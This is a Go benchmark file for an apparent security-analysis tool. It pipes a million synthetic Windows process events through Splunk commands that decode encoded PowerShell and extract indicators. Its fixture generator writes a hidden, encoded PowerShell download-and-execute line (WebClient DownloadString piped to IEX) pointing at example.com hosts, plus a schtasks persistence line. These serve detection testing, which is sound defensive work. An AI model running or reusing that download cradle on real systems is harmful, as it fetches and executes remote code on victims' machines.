package cli

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"runtime"
	"runtime/metrics"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/hunchsec/hunch/pipeline"
	"github.com/hunchsec/hunch/record"
	"github.com/hunchsec/hunch/siem/splunk/scp"
)

// benchEvents is how many process events BenchmarkSplunkCommandUnpackExtract streams per run,
// in chunks of benchChunk (splunkd's default maxresultrows).
const (
	benchEvents = 1_000_000
	benchChunk  = 50_000
)

// benchBodies generates n distinct CSV chunk bodies of process events: one in four runs
// powershell -enc with a script holding a URL and an IP, the others are plain command lines.
func benchBodies(n int) [][]byte {
	plain := []string{
		`"C:\Windows\system32\cmd.exe" /c dir C:\Users\Public`,
		`C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule`,
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US`,
		`net use \\fileserver01\share /user:CORP\svc_backup`,
		`C:\Windows\system32\rundll32.exe shell32.dll,Control_RunDLL`,
		`schtasks /create /tn Updater /tr C:\ProgramData\upd.exe /sc onlogon`,
	}
	bodies := make([][]byte, n)
	for b := range bodies {
		recs := make([]record.Record, benchChunk)
		for i := range recs {
			k := b*benchChunk + i
			cl := plain[k%len(plain)]
			if k%4 == 0 {
				script := fmt.Sprintf("$c=New-Object Net.WebClient;$c.DownloadString('http://cdn%d.example.com/p/%d.ps1')|IEX;Test-Connection 198.51.%d.%d", k%97, k, k%200, k%250+1)
				cl = "powershell.exe -NoProfile -WindowStyle Hidden -enc " + encodedCommand(script)
			}
			recs[i] = record.New(
				record.Field{Name: "_time", Value: record.String(fmt.Sprintf("17000%05d.%03d", k%100000, k%1000))},
				record.Field{Name: "host", Value: record.String(fmt.Sprintf("ws%04d", k%5000))},
				record.Field{Name: "EventCode", Value: record.String("4688")},
				record.Field{Name: "CommandLine", Value: record.String(cl)},
			)
		}
		bodies[b] = scp.AppendBody(nil, recs)
	}
	return bodies
}

// splunkdInput is what splunkd writes to a command: getinfo, then the bodies as execute chunks.
func splunkdInput(args string, bodies [][]byte, chunks int) io.Reader {
	getinfo := `{"action":"getinfo","preview":false,"searchinfo":{"args":[` + args + `],"app":"hunch","sid":"1.1"}}`
	rs := []io.Reader{bytes.NewReader(scp.AppendChunk(nil, []byte(getinfo), nil))}
	for i := range chunks {
		meta := `{"action":"execute","finished":false}`
		if i == chunks-1 {
			meta = `{"action":"execute","finished":true}`
		}
		rs = append(rs, io.MultiReader(
			strings.NewReader(fmt.Sprintf("chunked 1.0,%d,%d\n%s", len(meta), len(bodies[i%len(bodies)]), meta)),
			bytes.NewReader(bodies[i%len(bodies)])))
	}
	return io.MultiReader(rs...)
}

// relay plays splunkd between two commands: it turns the first command's replies into execute
// chunks for the second (after a getinfo with args), as splunkd does between | a | b.
func relay(from io.Reader, to *io.PipeWriter, args string) {
	bw := bufio.NewWriterSize(to, 1<<20)
	getinfo := `{"action":"getinfo","preview":false,"searchinfo":{"args":[` + args + `],"app":"hunch","sid":"1.1"}}`
	bw.Write(scp.AppendChunk(nil, []byte(getinfo), nil))
	d := scp.NewDecoder(from)
	first := true
	for {
		c, err := d.Next()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			to.CloseWithError(err)
			return
		}
		if first { // the configuration reply
			first = false
			continue
		}
		meta := `{"action":"execute","finished":false}`
		if bytes.Contains(c.Metadata, []byte(`"finished":true`)) {
			meta = `{"action":"execute","finished":true}`
		}
		fmt.Fprintf(bw, "chunked 1.0,%d,%d\n%s", len(meta), len(c.Body), meta)
		bw.Write(c.Body)
		bw.Flush()
	}
	bw.Flush()
	to.Close()
}

// countingWriter counts bytes and reply chunks' records cheaply (by CSV row ends outside quotes
// is not needed: the test checks the records; here only the volume matters).
type countingWriter struct{ n int64 }

func (w *countingWriter) Write(b []byte) (int, error) { w.n += int64(len(b)); return len(b), nil }

// peakHeap samples the heap's live-and-dead object bytes until stop is called, which returns the peak.
func peakHeap() (stop func() uint64) {
	var peak uint64
	done := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		s := []metrics.Sample{{Name: "/memory/classes/heap/objects:bytes"}}
		t := time.NewTicker(5 * time.Millisecond)
		defer t.Stop()
		for {
			select {
			case <-done:
				return
			case <-t.C:
			}
			metrics.Read(s)
			peak = max(peak, s[0].Value.Uint64())
		}
	}()
	return func() uint64 {
		close(done)
		wg.Wait()
		return peak
	}
}

// BenchmarkSplunkCommandUnpackExtract streams 1 M process events through | hunchunpack
// field=CommandLine | hunchextract field=full_decoded, each through the cli entry and the
// protocol, the two commands running concurrently as splunkd runs them.
func BenchmarkSplunkCommandUnpackExtract(b *testing.B) {
	bodies := benchBodies(4)
	chunks := benchEvents / benchChunk
	stopPeak := peakHeap()
	runtime.GC()
	b.ReportAllocs()
	b.ResetTimer()
	cpu0 := cpuSeconds()
	var out countingWriter
	// Both commands share this process's runtime, so the per-process collector pacing of
	// splunk-command (paceGC) would be applied twice over one heap; the default pacing stands
	// in for it here (HUNCH_BENCH_GOGC overrides).
	gogc := os.Getenv("HUNCH_BENCH_GOGC")
	if gogc == "" {
		gogc = "100"
	}
	getenv := func(k string) string {
		if k == "GOGC" {
			return gogc
		}
		return ""
	}
	for range b.N {
		pr1, pw1 := io.Pipe()
		pr2, pw2 := io.Pipe()
		errs := make(chan error, 2)
		go func() {
			var stderr bytes.Buffer
			code := run(context.Background(), []string{"splunk-command", "hunchunpack"}, splunkdInput(`"field=CommandLine"`, bodies, chunks), pw1, &stderr, getenv)
			pw1.Close()
			if code != 0 {
				errs <- fmt.Errorf("hunchunpack exit %d: %s", code, stderr.String())
				return
			}
			errs <- nil
		}()
		go relay(pr1, pw2, `"field=full_decoded"`)
		go func() {
			var stderr bytes.Buffer
			code := run(context.Background(), []string{"splunk-command", "hunchextract"}, pr2, &out, &stderr, getenv)
			io.Copy(io.Discard, pr2)
			if code != 0 {
				errs <- fmt.Errorf("hunchextract exit %d: %s", code, stderr.String())
				return
			}
			errs <- nil
		}()
		for range 2 {
			if err := <-errs; err != nil {
				b.Fatal(err)
			}
		}
	}
	b.StopTimer()
	cpu := cpuSeconds() - cpu0
	peak := stopPeak()
	b.ReportMetric(float64(benchEvents)*float64(b.N)/b.Elapsed().Seconds(), "events/s")
	b.ReportMetric(float64(benchEvents)*float64(b.N)/cpu, "events/cpu-s")
	b.ReportMetric(float64(peak)/(1<<20), "peak-heap-MiB")
	b.ReportMetric(float64(out.n)/float64(b.N)/(1<<20), "reply-MiB/op")
}

// BenchmarkSplunkCommandStages splits the chain's cost: each command on its own over the
// protocol (1 M input records each), and the pipeline transforms alone over the same records
// already decoded, with the options the commands use (Keep, two workers).
func BenchmarkSplunkCommandStages(b *testing.B) {
	bodies := benchBodies(1)
	chunks := benchEvents / benchChunk
	getenv := func(k string) string {
		if k == "GOGC" {
			return "100"
		}
		return ""
	}
	// One chunk of hunchunpack's reply, as hunchextract receives it.
	var unpacked bytes.Buffer
	if code := run(context.Background(), []string{"splunk-command", "hunchunpack"}, splunkdInput(`"field=CommandLine"`, bodies, 1), &unpacked, io.Discard, getenv); code != 0 {
		b.Fatalf("hunchunpack exit %d", code)
	}
	d := scp.NewDecoder(&unpacked)
	d.Next() // configuration
	c, err := d.Next()
	if err != nil {
		b.Fatal(err)
	}
	unpackedBodies := [][]byte{c.Body}
	events, _ := scp.DecodeBody(bodies[0], 0)
	unpackedRecs, _ := scp.DecodeBody(c.Body, 0)
	command := func(name, args string, in [][]byte) func(b *testing.B) {
		return func(b *testing.B) {
			runtime.GC()
			b.ReportAllocs()
			stopPeak := peakHeap()
			cpu0 := cpuSeconds()
			for range b.N {
				var out countingWriter
				if code := run(context.Background(), []string{"splunk-command", name}, splunkdInput(args, in, chunks), &out, io.Discard, getenv); code != 0 {
					b.Fatalf("%s exit %d", name, code)
				}
			}
			cpu := cpuSeconds() - cpu0
			b.ReportMetric(float64(benchEvents)*float64(b.N)/b.Elapsed().Seconds(), "records/s")
			b.ReportMetric(float64(benchEvents)*float64(b.N)/cpu, "records/cpu-s")
			b.ReportMetric(float64(stopPeak())/(1<<20), "peak-heap-MiB")
		}
	}
	transform := func(recs []record.Record, fn func(record.Stream) record.Stream) func(b *testing.B) {
		return func(b *testing.B) {
			b.ReportAllocs()
			cpu0 := cpuSeconds()
			for range b.N {
				for range chunks {
					in := func(yield func(record.Record, error) bool) {
						for _, r := range recs {
							if !yield(r, nil) {
								return
							}
						}
					}
					for _, err := range fn(in) {
						if err != nil {
							b.Fatal(err)
						}
					}
				}
			}
			cpu := cpuSeconds() - cpu0
			b.ReportMetric(float64(benchEvents)*float64(b.N)/b.Elapsed().Seconds(), "records/s")
			b.ReportMetric(float64(benchEvents)*float64(b.N)/cpu, "records/cpu-s")
		}
	}
	b.Run("hunchunpack", command("hunchunpack", `"field=CommandLine"`, bodies))
	b.Run("hunchextract", command("hunchextract", `"field=full_decoded"`, unpackedBodies))
	ctx := context.Background()
	b.Run("pipeline.Unpack", transform(events, func(s record.Stream) record.Stream {
		return pipeline.Unpack(ctx, s, pipeline.UnpackOptions{Fields: []string{"CommandLine"}, Keep: true, All: true, Workers: 2})
	}))
	b.Run("pipeline.Extract", transform(unpackedRecs, func(s record.Stream) record.Stream {
		return pipeline.Extract(ctx, s, pipeline.ExtractOptions{Fields: []string{"full_decoded"}, Keep: true, Workers: 2})
	}))
	b.Run("pipeline.Extract-nokeep", transform(unpackedRecs, func(s record.Stream) record.Stream {
		return pipeline.Extract(ctx, s, pipeline.ExtractOptions{Fields: []string{"full_decoded"}, Workers: 2})
	}))
}
